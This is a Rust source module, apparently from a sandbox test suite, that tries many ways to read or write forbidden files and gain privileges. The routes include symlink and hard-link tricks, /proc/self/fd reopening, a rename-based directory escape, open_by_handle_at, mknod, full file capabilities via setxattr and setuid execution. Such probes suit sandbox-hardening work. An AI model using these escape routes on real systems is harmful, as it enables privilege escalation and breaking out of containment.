//! Attempts to read and write forbidden files, by every route through names and descriptors.

use crate::{Attempt, Tried, answer, c, word};
use std::{
    ffi::CString,
    fs::{self, File, OpenOptions},
    io::{self, Read, Write},
    os::{
        fd::{AsRawFd, FromRawFd},
        unix::fs::{OpenOptionsExt, symlink},
    },
    path::Path,
    process::Command,
};

pub(crate) const ATTEMPTS: &[(&str, Attempt)] = &[
    ("read", |args| read(Path::new(word(args, 0)))),
    // Files that a container engine hides read as empty.
    ("peek", |args| {
        let mut first = [0];
        File::open(word(args, 0))?.read_exact(&mut first)?;
        Ok("not empty".to_owned())
    }),
    ("search", |args| {
        let text = fs::read(word(args, 0))?;
        let found = String::from_utf8_lossy(&text).contains(word(args, 1));
        if found { Ok("found".to_owned()) } else { Err(io::Error::other("not in it")) }
    }),
    ("list", |args| list(word(args, 0))),
    ("write", |args| write(Path::new(word(args, 0)))),
    ("open-to-write", |args| OpenOptions::new().write(true).open(word(args, 0)).map(|_| "opened".to_owned())),
    ("symlink", |args| {
        symlink(word(args, 0), "a-link")?;
        write(Path::new("a-link"))
    }),
    ("hard-link", |args| {
        fs::remove_file("a-hard-link").ok();
        fs::hard_link(word(args, 0), "a-hard-link")?;
        write(Path::new("a-hard-link"))
    }),
    ("rename", |args| {
        fs::write("loot", "attacked")?;
        fs::rename("loot", Path::new(word(args, 0)).join("loot"))?;
        Ok("moved".to_owned())
    }),
    ("climb", |args| climb(word(args, 0))),
    ("reopen", |args| {
        let file = File::open(word(args, 0))?;
        OpenOptions::new().write(true).open(format!("/proc/self/fd/{}", file.as_raw_fd()))?;
        Ok("opened".to_owned())
    }),
    ("change-mode", |args| {
        let mode = fs::metadata(word(args, 0))?.permissions();
        fs::set_permissions(word(args, 0), mode)?;
        Ok("changed".to_owned())
    }),
    ("replace", |args| {
        fs::write("loot", "attacked")?;
        fs::rename("loot", word(args, 0))?;
        Ok("replaced".to_owned())
    }),
    ("descriptors", |_| descriptors()),
    ("device", |args| {
        OpenOptions::new().read(true).custom_flags(libc::O_NONBLOCK).open(word(args, 0))?;
        Ok("opened".to_owned())
    }),
    ("mknod", |_| {
        let name = c("node");
        // SAFETY: the name outlives the call; the rest are numbers.
        let made = unsafe { libc::mknod(name.as_ptr(), libc::S_IFCHR | 0o666, libc::makedev(1, 5)) };
        answer(made.into())?;
        Ok("made".to_owned())
    }),
    ("run-setuid", |args| {
        let done = Command::new(word(args, 0)).arg("euid").output()?;
        let said = String::from_utf8_lossy(&done.stdout).into_owned();
        if said.trim() == "euid 0" { Ok(said) } else { Err(io::Error::other(said)) }
    }),
    ("give-capability", |_| give_capability()),
    ("give-away", |_| {
        fs::write("given", "")?;
        std::os::unix::fs::chown("given", Some(1), Some(1))?;
        Ok("given".to_owned())
    }),
    ("immutable", |_| immutable()),
    ("by-handle", |args| by_handle(word(args, 0))),
    ("watch-all", |_| {
        // SAFETY: numbers only. 4 is FAN_CLASS_CONTENT: the caller may decide whether others can open a file.
        answer(unsafe { libc::syscall(libc::SYS_fanotify_init, 4, libc::O_RDONLY) })?;
        Ok("asked".to_owned())
    }),
];

pub(crate) fn euid() -> u32 {
    // SAFETY: reads a number.
    unsafe { libc::geteuid() }
}

/// An empty answer reveals nothing.
pub(crate) fn read(path: &Path) -> Tried {
    let mut bytes = Vec::new();
    File::open(path)?.take(4096).read_to_end(&mut bytes)?;
    if bytes.is_empty() {
        return Err(io::Error::other("empty"));
    }
    Ok(String::from_utf8_lossy(&bytes).into_owned())
}

fn list(dir: &str) -> Tried {
    let names: Vec<String> =
        fs::read_dir(dir)?.flatten().map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
    Ok(names.join(" "))
}

fn write(path: &Path) -> Tried {
    OpenOptions::new().append(true).create(true).open(path)?.write_all(b"attacked")?;
    Ok("attacked".to_owned())
}

/// Moves the current directory: afterwards its parents are not those that the kernel checked.
fn climb(path: &str) -> Tried {
    fs::create_dir_all("climb/a/b/c")?;
    let inner = File::open("climb/a/b/c")?;
    fs::rename("climb/a/b/c", "climbed")?;
    let up = c(&format!("{}{}", "../".repeat(40), path.trim_start_matches('/')));
    // SAFETY: the name outlives the call; the new descriptor has no other owner.
    let file = unsafe {
        let fd = answer(libc::openat(inner.as_raw_fd(), up.as_ptr(), libc::O_RDONLY).into())?;
        File::from_raw_fd(fd as i32)
    };
    read(Path::new(&format!("/proc/self/fd/{}", file.as_raw_fd())))
}

fn descriptors() -> Tried {
    // Only files: a write to the pipe of our parent process could block.
    let files = (3..256).map(|fd| format!("/proc/self/fd/{fd}"));
    let files = files.filter(|path| fs::metadata(path).is_ok_and(|found| found.is_file()));
    let got: Vec<String> = files.filter_map(|path| read(Path::new(&path)).ok()).collect();
    if got.is_empty() { Err(io::Error::other("there are none")) } else { Ok(got.join(" ")) }
}

/// With these capabilities the file runs with all rights.
fn give_capability() -> Tried {
    fs::write("capable", "")?;
    let all = u32::MAX.to_le_bytes();
    let value = [0x0200_0001_u32.to_le_bytes(), all, [0; 4], all, [0; 4]].concat();
    // SAFETY: pointers and length are of values that outlive the call.
    let done = unsafe {
        let (file, name) = (c("capable"), c("security.capability"));
        libc::setxattr(file.as_ptr(), name.as_ptr(), value.as_ptr().cast(), value.len(), 0)
    };
    answer(done.into()).map(|_| "capable".to_owned())
}

/// An immutable file: even root can remove it only after it clears the flag.
fn immutable() -> Tried {
    const GET: u64 = 0x8008_6601;
    const SET: u64 = 0x4008_6602;
    let file = File::create("lasting")?;
    let mut flags: libc::c_long = 0;
    // SAFETY: reads and writes one long.
    unsafe {
        answer(libc::ioctl(file.as_raw_fd(), GET as _, &mut flags).into())?;
        let lasting = flags | 0x10;
        answer(libc::ioctl(file.as_raw_fd(), SET as _, &lasting).into())?;
        answer(libc::ioctl(file.as_raw_fd(), SET as _, &flags).into())?;
    }
    Ok("lasting".to_owned())
}

#[repr(C)]
struct Handle {
    bytes: u32,
    kind: i32,
    data: [u8; 128],
}

/// Opens a file by its inode, without permission checks on the directories above it.
fn by_handle(path: &str) -> Tried {
    let mut handle = Handle { bytes: 128, kind: 0, data: [0; 128] };
    let (mut mount, name, dir) = (0, c(path), File::open(".")?);
    // SAFETY: all pointers are to values that outlive the calls, and of the size that is said.
    let fd = unsafe {
        answer(libc::syscall(
            libc::SYS_name_to_handle_at,
            libc::AT_FDCWD,
            name.as_ptr(),
            &mut handle,
            &mut mount,
            0,
        ))?;
        answer(libc::syscall(libc::SYS_open_by_handle_at, dir.as_raw_fd(), &handle, libc::O_RDONLY))?
    };
    read(Path::new(&format!("/proc/self/fd/{fd}")))
}

pub(crate) fn made_dir(name: &str) -> CString {
    fs::create_dir_all(name).ok();
    c(name)
}
